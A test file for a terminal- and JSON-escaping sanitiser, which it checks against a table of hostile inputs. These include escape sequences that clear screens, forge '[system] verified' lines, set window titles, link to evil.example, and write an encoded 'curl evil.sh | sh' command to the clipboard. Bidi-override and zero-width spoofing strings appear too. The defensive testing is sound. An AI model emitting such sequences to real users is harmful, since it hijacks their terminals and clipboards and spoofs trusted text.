import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toJsonSafe, toTerminalSafe } from '../../src/protocol/terminal-safe.js';
import { anyUnit } from './helpers/arbitraries.js';

const ATTACKS: Record<string, string> = {
  'clear screen': '\x1b[2J',
  'cursor up + CR (croc#595)': 'ok\x1b[1A\r[system] verified',
  'OSC 0 window title': '\x1b]0;pwned\x07',
  'OSC 52 clipboard': '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  DCS: '\x1bP1$r0m\x1b\\',
  APC: '\x1b_hidden\x1b\\',
  '8-bit CSI': '\x9b2J',
  '8-bit OSC': '\x9d0;title\x9c',
  BEL: 'ding\x07\x07',
  'RTL override': 'invoice\u202egpj.exe',
  isolates: 'a\u2066b\u2067c\u2068d\u2069',
  marks: 'x\u200ey\u200fz\u061c',
  'zero-width': 'pay\u200bpal\u200c\u200d\u2060\ufeff\u180e',
  'lone surrogates': 'a\ud800b\udfffc',
  'line separators': 'one\u2028two\u2029three',
  'tag characters': 'hi\u{e0041}\u{e0042}',
  'backspace overwrite': 'safe\b\b\b\bEVIL',
  DEL: 'x\x7f',
};

/** Anything a terminal could act on, or that hides or reorders text. */
const UNSAFE_NO_NL = /[\x00-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\p{Cs}|[\u{e0000}-\u{e007f}]/u;
const UNSAFE_KEEP_NL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\p{Cs}|[\u{e0000}-\u{e007f}]/u;

const attackToken = fc.constantFrom(...Object.values(ATTACKS), '\x1b', '\r\n', '\n', '\t', '\x00');
const hostileString = fc
  .array(fc.oneof(attackToken, fc.string({ unit: anyUnit, maxLength: 8 }), fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 10 })
  .map((parts) => parts.join(''));

describe('toTerminalSafe', () => {
  it.each(Object.entries(ATTACKS))('neutralises %s', (_name, attack) => {
    expect(toTerminalSafe(attack)).not.toMatch(UNSAFE_NO_NL);
    expect(toTerminalSafe(attack, { keepNewlines: true })).not.toMatch(UNSAFE_KEEP_NL);
  });

  it('shows C0 controls as control pictures and C1 as U+FFFD', () => {
    expect(toTerminalSafe('\x1b[2J')).toBe('␛[2J');
    expect(toTerminalSafe('\x1b]0;pwned\x07')).toBe('␛]0;pwned␇');
    expect(toTerminalSafe('a\tb\r\nc\x00\x7f')).toBe('a␉b␍␊c␀␡');
    expect(toTerminalSafe('\x9b2J')).toBe('\ufffd2J');
    expect(toTerminalSafe('a\ud800b')).toBe('a\ufffdb');
    expect(toTerminalSafe('one\u2028two')).toBe('one␤two');
  });

  it('removes bidi and zero-width characters', () => {
    expect(toTerminalSafe('invoice\u202egpj.exe')).toBe('invoicegpj.exe');
    expect(toTerminalSafe('pay\u200bpal\ufeff')).toBe('paypal');
  });

  it('keeps \\n (and folds \\r\\n) only when asked; a lone \\r stays visible', () => {
    expect(toTerminalSafe('a\nb')).toBe('a␊b');
    expect(toTerminalSafe('a\nb\r\nc\rd', { keepNewlines: true })).toBe('a\nb\nc␍d');
  });

  it('caps length in code points with an ellipsis, never splitting a surrogate pair', () => {
    expect(toTerminalSafe('abcdef', { maxLength: 4 })).toBe('abc…');
    expect(toTerminalSafe('abcd', { maxLength: 4 })).toBe('abcd');
    expect(toTerminalSafe('👋👋👋👋👋', { maxLength: 3 })).toBe('👋👋…');
    expect(toTerminalSafe('\x1b\x1b\x1b', { maxLength: 2 })).toBe('␛…');
    expect(toTerminalSafe('abc', { maxLength: 0 })).toBe('');
  });

  it('leaves ordinary text alone', () => {
    for (const s of ['hello', 'héllo wörld', '世界 👋', 'a "quoted" \\ name', 'ümlaut ☃ ✔']) expect(toTerminalSafe(s)).toBe(s);
  });

  it('for 10⁴ generated strings: no control, C1, bidi, zero-width or lone surrogate survives', () => {
    fc.assert(
      fc.property(hostileString, fc.option(fc.integer({ min: 0, max: 40 }), { nil: undefined }), (s, maxLength) => {
        const flat = toTerminalSafe(s, { maxLength });
        expect(flat).not.toMatch(UNSAFE_NO_NL);
        expect(toTerminalSafe(s, { keepNewlines: true, maxLength })).not.toMatch(UNSAFE_KEEP_NL);
        if (maxLength !== undefined) expect([...flat].length).toBeLessThanOrEqual(maxLength);
        if (!UNSAFE_NO_NL.test(s) && !/[\u00ad\u2061-\u206f\ufff9-\ufffb]/.test(s)) expect(toTerminalSafe(s)).toBe(s);
      }),
      { numRuns: 10_000 },
    );
  });
});

describe('toJsonSafe', () => {
  it('writes every unsafe character as a \\u escape and parses back exactly', () => {
    const value = { name: ATTACKS['OSC 52 clipboard'], list: Object.values(ATTACKS), ['key\u202e\x1b']: 'v\x9b' };
    const json = toJsonSafe(value);
    expect(json).not.toMatch(UNSAFE_NO_NL);
    expect(json).toContain('\\u202e');
    expect(json).toContain('\\u009b');
    expect(JSON.parse(json)).toEqual(value);
  });

  it('for 10⁴ generated values: exact round trip, nothing unsafe raw', () => {
    fc.assert(
      fc.property(fc.oneof(hostileString, fc.dictionary(hostileString, fc.oneof(hostileString, fc.array(hostileString, { maxLength: 3 })), { maxKeys: 3 })), (value) => {
        const json = toJsonSafe(value);
        expect(json).not.toMatch(UNSAFE_NO_NL);
        expect(JSON.parse(json)).toEqual(value);
      }),
      { numRuns: 10_000 },
    );
  });

  it('gives null for values JSON cannot express at the top level', () => {
    expect(toJsonSafe(undefined)).toBe('null');
  });
});
